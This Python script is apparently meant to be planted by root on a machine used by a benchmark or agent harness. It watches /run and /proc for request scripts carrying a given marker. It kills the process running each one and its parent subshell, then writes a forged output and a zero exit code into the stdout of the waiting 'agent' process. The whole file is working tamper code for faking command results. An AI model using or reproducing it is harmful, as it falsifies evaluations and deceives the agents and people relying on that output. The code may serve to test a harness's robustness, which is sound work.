"""Left on a machine by its root: looks for what the bench asks there, ends it, and answers in its stead.

Its words: the mark that the request bears, in base64 so that it does not bear it itself, and for how many
seconds to look. It prints what it found of it, and what it forged.
"""

import base64
import ctypes
import glob
import os
import struct
import sys
import time

mark = base64.b64decode(sys.argv[1])
end = time.time() + float(sys.argv[2])
created = 0x100
libc = ctypes.CDLL(None)
watch = libc.inotify_init1(os.O_NONBLOCK)
libc.inotify_add_watch(watch, b"/run", created)
found = set()


def tell(what):
    if what not in found:
        found.add(what)
        print(what, flush=True)


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def numbers():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def parent(number):
    return int(read(f"/proc/{number}/stat").rsplit(b") ", 1)[1].split()[1])


def forge(file):
    request = os.path.basename(file)[: -len(".sh")]
    for number in numbers():
        if file.encode() not in read(f"/proc/{number}/cmdline").split(b"\0"):
            continue
        subshell = parent(number)
        agent = parent(subshell)
        os.kill(subshell, 9)
        os.kill(number, 9)
        answer = base64.b64encode(b"forged\n").decode()
        with open(f"/proc/{agent}/fd/1", "w") as out:
            out.write(f"{request} > {answer}\n{request} 0\n")
        tell("forged")
        return


while time.time() < end:
    try:
        events = os.read(watch, 65536)
    except BlockingIOError:
        events = b""
    while events:
        length = struct.unpack_from("iIII", events)[3]
        name = events[16 : 16 + length].rstrip(b"\0").decode()
        events = events[16 + length :]
        if name.startswith(".bench.") or mark in read(f"/run/{name}"):
            tell("file")
    for number in numbers():
        if mark in read(f"/proc/{number}/cmdline") + read(f"/proc/{number}/environ"):
            tell("process")
    for file in glob.glob("/run/.bench.*/*.sh"):
        if mark in read(file):
            tell("file")
            # What is ended can't be found any more.
            if "process" not in found:
                continue
            try:
                forge(file)
            except (OSError, IndexError):
                pass
    time.sleep(0.02)
